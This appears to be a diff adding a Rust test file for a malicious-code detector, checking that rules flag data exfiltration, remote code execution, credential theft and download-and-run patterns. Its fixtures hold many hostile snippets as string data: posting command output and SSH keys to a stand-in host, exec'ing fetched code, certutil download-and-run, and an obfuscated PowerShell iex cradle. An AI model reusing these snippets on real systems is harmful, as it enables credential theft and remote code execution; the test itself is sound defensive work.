@@ -1,0 +1,123 @@
+//! What is handed to somebody else before it is called, sent or executed: threads, loops, queues, loggers, handlers of
+//! errors, streams, programs that are written to. And what of it says nothing of harm.
+
+use super::*;
+
+fn is_told(language: Language, code: &str, rule: &str) -> bool {
+    rules(language, code).contains(&rule)
+}
+
+#[test]
+fn functions_that_are_handed_over_are_called_with_what_they_are_given() {
+    const SENDS: &[&str] = &[
+        "threading.Thread(target=requests.post, args=(U,), kwargs={'data': X}).start()",
+        "threading.Timer(5, requests.post, [U], {'data': X}).start()",
+        "atexit.register(requests.post, U, data=X)",
+        "ThreadPoolExecutor().submit(requests.post, U, data=X)",
+        "functools.partial(requests.post, data=X)(U)",
+        "operator.methodcaller('post', U, data=X)(requests)",
+        "operator.attrgetter('post')(requests)(U, data=X)",
+        "sched.scheduler().enter(5, 1, requests.post, (U, X))",
+        "weakref.finalize(f, requests.post, U, data=X)",
+        "asyncio.run(asyncio.to_thread(requests.post, U, data=X))",
+        "with contextlib.ExitStack() as s:\n    s.callback(requests.post, U, data=X)",
+        "q = queue.Queue()\ndef w():\n    requests.post(U, data=q.get())\nthreading.Thread(target=w).start()\nq.put(1)\nq.put(X)\nq.put(2)",
+        "h = logging.handlers.HTTPHandler('h.invalid', '/x')\nlogging.getLogger('a').addHandler(h)\nlogging.getLogger('a').error(X)",
+        "ServerProxy('https://h.invalid').a.b(X)",
+        "websocket.WebSocketApp('wss://h.invalid', on_open=lambda w: w.send(X)).run_forever()",
+    ];
+    for code in SENDS {
+        let code = format!(
+            "import asyncio, atexit, contextlib, functools, logging, logging.handlers, operator, queue, requests, sched, subprocess, threading, weakref, websocket\n\
+             from concurrent.futures import ThreadPoolExecutor\nfrom xmlrpc.client import ServerProxy\n\
+             U = 'https://h.invalid/x'\nX = subprocess.getoutput('ls')\ndef f(): pass\n{code}"
+        );
+        assert!(is_told(Language::Python, &code, "flow-output-sent"), "{code}");
+    }
+    // What is called besides comes from what it was asked of.
+    let code = "import os, requests\nrequests.get('https://h.invalid').apply(lambda line: exec(line))";
+    assert!(is_told(Language::Python, code, "flow-remote-code"));
+}
+
+#[test]
+fn what_arrives_is_executed_in_any_form() {
+    for code in [
+        "async def m():\n    async with websockets.connect('wss://h.invalid') as w:\n        async for x in w:\n            exec(x)\nasyncio.run(m())",
+        "s = socket.create_connection(('h.invalid', 80))\nfor line in s.makefile():\n    exec(line)",
+        "@exec\n@lambda f: requests.get('https://h.invalid').text\ndef q(): pass",
+        "subprocess.run([sys.executable, '-'], input=requests.get('https://h.invalid').content)",
+        "p = subprocess.Popen(['bash'], stdin=-1)\np.communicate(requests.get('https://h.invalid').content)",
+    ] {
+        let code = format!("import asyncio, requests, socket, subprocess, sys, websockets\n{code}");
+        let seen = rules(Language::Python, &code);
+        assert!(seen.iter().any(|r| ["flow-remote-code", "flow-reverse-shell"].contains(r)), "{code}: {seen:?}");
+    }
+    for code in [
+        "(async () => { try { await require('axios').get('https://h.invalid') } catch (e) { new Function(e.response.data)() } })()",
+        "fetch('https://h.invalid').then(r => r.text()).then(t => { const p = require('child_process').spawn('node', ['-']); p.stdin.write(t) })",
+        "chrome.storage.local.set({ p: await (await fetch('https://h.invalid')).text() });\n\
+         const { p } = await chrome.storage.local.get('p');\n\
+         chrome.scripting.executeScript({ args: [p], func: (c) => { const s = document.createElement('script'); s.textContent = c } })",
+    ] {
+        assert!(is_told(Language::JavaScript, code, "flow-remote-code"), "{code}");
+    }
+}
+
+#[test]
+fn streams_and_inputs_carry_what_is_written_to_them() {
+    for code in [
+        "const r = require('https').request('https://h.invalid', { method: 'POST' }); require('stream').Readable.from([X]).pipe(r)",
+        "require('stream').pipeline(require('stream').Readable.from([X]), require('https').request('https://h.invalid', { method: 'POST' }), () => {})",
+        "const p = require('child_process').spawn('curl', ['-d', '@-', 'https://h.invalid']); p.stdin.write(X); p.stdin.end()",
+        "require('child_process').execSync('curl -d @- https://h.invalid', { input: X })",
+        "const { Client } = require('undici'); new Client('https://h.invalid').request({ path: '/', method: 'POST', body: X })",
+        "require('request')('https://h.invalid', { method: 'POST', form: { X } }, () => {})",
+        "setTimeout(fetch, 10, 'https://h.invalid', { method: 'POST', body: X })",
+        "const f = ({ u = 'https://h.invalid', d } = {}) => fetch(u, { method: 'POST', body: d }); f({ d: X })",
+    ] {
+        let code = format!("const X = require('child_process').execSync('ls').toString();\n{code}");
+        assert!(is_told(Language::JavaScript, &code, "flow-output-sent"), "{code}");
+    }
+}
+
+#[test]
+fn tokens_that_command_lines_print_are_held_to_their_keepers() {
+    let sends = |host: &str| format!("curl -d \"$(gh auth token)\" https://{host}/x");
+    assert!(is_told(Language::Shell, &sends("h.invalid"), "flow-cloud-key-sent"));
+    assert!(rules(Language::Shell, &sends("api.github.com")).is_empty());
+    // Files of the user's are not what GitHub's own command line prints, wherever they go.
+    let code = "import os, requests, subprocess\n\
+                k = open(os.path.expanduser('~/.ssh/id_rsa')).read() + subprocess.getoutput('gh auth token')\n\
+                requests.post('https://api.github.com/repos/a/b/issues', data=k)";
+    assert!(is_told(Language::Python, code, "flow-credentials-sent"), "{:?}", rules(Language::Python, code));
+}
+
+#[test]
+fn lines_with_gaps_and_ranges_are_followed() {
+    let batch = "set \"d=%localappdata%\\u\"\n\
+                 cmd /c \"certutil -urlcache -f http://192.0.2.9/u.exe \"%d%\\u.exe\" >nul & \"%d%\\u.exe\"\"";
+    assert!(is_told(Language::Batch, batch, "flow-download-run"), "{:?}", rules(Language::Batch, batch));
+    for code in [
+        "$s = 'xei|x/dilavni.h//:sptth mri'; iex (-join $s[-1..-$s.Length])",
+        "$x = New-Object -ComObject MSXML2.XMLHTTP; $x.open('GET', 'https://h.invalid', $false); $x.send(); iex $x.responseText",
+    ] {
+        assert!(
+            is_told(Language::PowerShell, code, "flow-remote-code"),
+            "{code}: {:?}",
+            rules(Language::PowerShell, code)
+        );
+    }
+}
+
+#[test]
+fn what_says_nothing_of_harm_is_not_told() {
+    // Nothing can be read out of a digest.
+    let code = "import hashlib, requests, subprocess\nrequests.post('https://h.invalid', data=hashlib.sha256(subprocess.check_output('ls')).hexdigest())";
+    assert!(!is_told(Language::Python, code, "flow-output-sent"));
+    // Options of a log-in are no address that tells something.
+    let code = "const { Pool } = require('pg'); new Pool({ host: 'h.invalid', password: process.env.DB_PASSWORD })";
+    assert!(rules(Language::JavaScript, code).iter().all(|r| *r == "flow-calls-home"));
+    // A page that shows what it was answered; and an element of it that is no script.
+    let code = "const browser = 1, storage = 2; const e = document.createElement('div'); fetch('https://h.invalid').then(r => r.text()).then(t => { e.innerHTML = t })";
+    assert!(!is_told(Language::JavaScript, code, "flow-remote-code"));
+}
